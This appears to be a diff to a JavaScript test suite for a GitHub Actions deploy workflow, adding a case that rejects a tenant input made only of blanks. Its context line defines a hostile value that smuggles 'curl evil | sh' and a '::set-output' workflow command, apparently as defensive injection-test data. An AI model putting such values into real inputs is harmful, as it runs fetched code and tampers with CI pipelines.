@@ -50,6 +50,11 @@ const hostile = 'x; curl evil | sh\n::set-output name=a::b'
 
 describe('an event that cannot', () => {
   it.each([
+    [
+      'workflow_dispatch',
+      { inputs: { tenant: ' \n ' } },
+      'the event workflow_dispatch has a tenant of nothing but blanks'
+    ],
     ['schedule', {}, 'the event "schedule" does not say what to deploy'],
     ['', {}, 'the event "" does not say what to deploy'],
     ['push', null, 'the event push is nothing that GitHub sends'],
